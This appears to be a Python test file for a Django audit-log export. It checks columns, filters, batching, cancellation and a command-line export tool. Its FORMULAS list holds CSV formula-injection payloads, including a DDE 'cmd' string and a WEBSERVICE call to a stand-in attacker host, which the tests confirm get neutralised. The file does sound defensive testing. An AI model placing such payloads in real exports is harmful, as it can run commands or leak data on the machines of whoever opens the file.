"""What leaves the record: one line an entry, no formulas, nothing lost."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext

from audit import chain, export, record
from audit.export import Format
from audit.filters import Filters
from audit.models import Entry
from tests.audit.conftest import FULL
from tests.audit.test_record import LOG_INJECTION

# Rows of threat T-23, our own.
FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1+1",
    "\n=1",
    "  =1",
    '=WEBSERVICE("https://attacker.example")',
    "＝1+1",
]
PLAIN = ["ada@example.com", "5 > 3", "a=b", "a,b", 'say "hi"', "it's", ""]


def exported(form: Format, **wanted: str) -> list[dict]:
    text = "".join(part.text for part in export.parts(Filters.parse(wanted), form))
    if form is Format.CSV:
        return list(csv.DictReader(io.StringIO(text)))
    return [json.loads(line) for line in text.splitlines()]


def test_json_lines_hold_every_column(db: None) -> None:
    entry = record.write("call.called", "ok", **FULL)
    [row] = exported(Format.JSONL)
    assert list(row) == ["id", *Entry.columns(), "digest"]
    assert row["arguments"] == FULL["arguments"]
    assert row["cost"] == "0.00390000"
    assert row["at"] == chain.plain(entry.at)


def test_csv_holds_every_column(db: None) -> None:
    entry = record.write("call.called", "ok", **FULL)
    [row] = exported(Format.CSV)
    assert list(row) == ["id", *Entry.columns(), "digest"]
    assert row["id"] == str(entry.pk)
    assert json.loads(row["arguments"]) == {"database": "sales", "limit": 5}
    assert (row["cost"], row["cache_write_tokens"]) == ("0.00390000", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(db: None, text: str) -> None:
    assert text.lstrip()[0] in "=+-@＝", "this row could do no harm"
    record.write("call.called", "ok", tool=text, result=text)
    [row] = exported(Format.CSV)
    assert [row["tool"][0], row["preview"][0]] == ["'", "'"]
    assert [item["tool"] for item in exported(Format.JSONL)] == [text]


@pytest.mark.parametrize("text", PLAIN)
def test_a_harmless_cell_stays_as_it_is(db: None, text: str) -> None:
    record.write("call.called", "ok", tool=text)
    assert [row["tool"] for row in exported(Format.CSV)] == [text]


@pytest.mark.parametrize("form", list(Format))
@pytest.mark.parametrize("text", LOG_INJECTION)
def test_a_hostile_text_stays_on_one_line(db: None, form: Format, text: str) -> None:
    record.write("auth.refused", "refused", who=record.Who(user_agent=text), result=text)
    *_, last = export.parts(Filters.parse({}), form)
    assert last.text.endswith("\n")
    body = last.text[:-1]
    assert all(character.isprintable() for character in body)
    assert len(exported(form)) == 1


def test_filters_choose_entries(db: None) -> None:
    for person in ("ada", "bob"):
        record.write("auth.login", "ok", who=record.Who(person=person))
    record.write("auth.logout", "ok", who=record.Who(person="bob"))
    first, second, third = Entry.objects.order_by("id")
    hour = timedelta(hours=1)
    assert [row["id"] for row in exported(Format.JSONL, person="bob")] == [second.pk, third.pk]
    assert [row["id"] for row in exported(Format.JSONL, kind="auth.login")] == [first.pk, second.pk]
    assert [row["id"] for row in exported(Format.JSONL, **{"from": second.at.isoformat()})] == [
        second.pk,
        third.pk,
    ]
    assert [row["id"] for row in exported(Format.JSONL, to=second.at.isoformat())] == [first.pk]
    assert exported(Format.JSONL, **{"from": (third.at + hour).isoformat()}) == []


def test_entries_are_read_in_batches(db: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "BATCH", 10)
    record.write_many(record.prepare("auth.login", "ok") for _ in range(25))
    with CaptureQueriesContext(connection) as queries:
        parts = export.parts(Filters.parse({}), Format.JSONL)
        assert next(parts).entries == 10
        # The last entry there is, and the batch.
        assert len(queries) == 2
        assert [part.entries for part in parts] == [10, 5]
    assert len(queries) == 5


def test_json_is_handed_on_as_it_is_stored_and_in_ascii(db: None) -> None:
    hostile = {"ü": "\u2028 \x7f \x1b", "smile": "😀", "deep": [{"a": 1.5}, None, True, '"\\']}
    record.write("auth.login", "ok", detail=hostile)
    [part] = export.parts(Filters.parse({}), Format.JSONL)
    assert part.text.isascii() and part.text[:-1].isprintable()
    assert json.loads(part.text)["detail"] == Entry.objects.get().detail


def test_an_export_that_is_not_taken_to_its_end_was_cancelled(
    db: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "BATCH", 10)
    record.write_many(record.prepare("auth.login", "ok") for _ in range(25))
    taken = export.begin(Filters.parse({}), Format.JSONL, who=record.Who(person="ada"))
    next(taken), next(taken)
    taken.close()
    ended = Entry.objects.filter(kind="record.exported").latest("id")
    assert (ended.outcome, ended.detail["entries"], ended.person) == ("cancelled", 10, "ada")


# --- The command ----------------------------------------------------------------------------------
def test_the_command_prints_and_records_the_export(db: None, capsys: pytest.CaptureFixture) -> None:
    entry = record.write("auth.login", "ok", who=record.Who(person="ada"))
    call_command("export_audit", "person=ada", "from=2020-01-01", "--format", "jsonl")
    [line] = capsys.readouterr().out.splitlines()
    assert json.loads(line)["id"] == entry.pk
    begun, ended = Entry.objects.filter(kind="record.exported").order_by("id")
    told = {"format": "jsonl", "filters": {"person": "ada", "from": "2020-01-01"}}
    assert (begun.outcome, begun.detail) == ("pending", told)
    assert (ended.outcome, ended.detail) == ("ok", told | {"begun": begun.pk, "entries": 1})


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["from=yesterday"], "from: .*ISO 8601"),
        (["kind=auth.logon"], "kind: This is one of"),
        (["user__password=x"], "user__password: There is no such filter"),
        (["person"], "NAME=VALUE"),
        (["person=a", "person=b"], "person: This is given once"),
        (["--format", "xml"], "invalid choice"),
    ],
)
def test_the_command_refuses_what_it_does_not_know(
    db: None, arguments: list[str], said: str
) -> None:
    with pytest.raises(CommandError, match=said):
        call_command("export_audit", *arguments)
    assert Entry.objects.count() == 0
